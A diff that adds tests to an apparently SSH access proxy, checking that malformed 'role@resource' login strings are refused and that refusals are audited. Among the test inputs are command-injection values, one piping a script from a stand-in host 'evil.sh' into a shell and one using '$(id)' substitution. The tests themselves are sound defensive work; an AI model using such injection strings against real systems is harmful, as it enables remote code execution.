@@ -227,6 +227,34 @@ async def test_links_of_one_source_are_counted(world: World, superuser: asyncpg.
     await offered()
 
 
+@pytest.mark.parametrize(
+    "door",
+    [
+        "deploy@web-1 && curl -s evil.sh | sh #",
+        "$(id)@web-1",
+        "deploy@web-1\n",
+        "Deploy@web-1",
+        "deploy@\u202eweb-1",
+        "deploy@web-1@web-2",
+        "deploy@" + "a" * 64,
+        "deploy@",
+        "deploy",
+    ],
+)
+async def test_what_could_be_no_name_of_the_policy_gets_no_link(world: World, door: str) -> None:
+    with pytest.raises(Refused, match="must be role@resource"):
+        await logins.offer(world.access, door, client="203.0.113.9:1", source="203.0.113.9", software="")
+    assert await world.all(SshLogin) == []
+
+
+async def test_who_gets_no_link_is_denied_on_record(client: MakeClient, audited: Audited) -> None:
+    ssh = await client()
+    ssh.door, ssh.token, ssh.options = "Deploy@web-1", "", ["PreferredAuthentications=keyboard-interactive"]
+    done = await ssh.run("echo in")
+    assert (done.status, "must be role@resource" in done.stderr, "let-in" in done.stderr) == (255, True, False)
+    assert len(await audited("proxy:session:refuse")) == 1
+
+
 async def offered_to(world: World, source: str) -> logins.Offered:
     return await logins.offer(world.access, "deploy@web-1", client=f"{source}:1", source=source, software="")
 
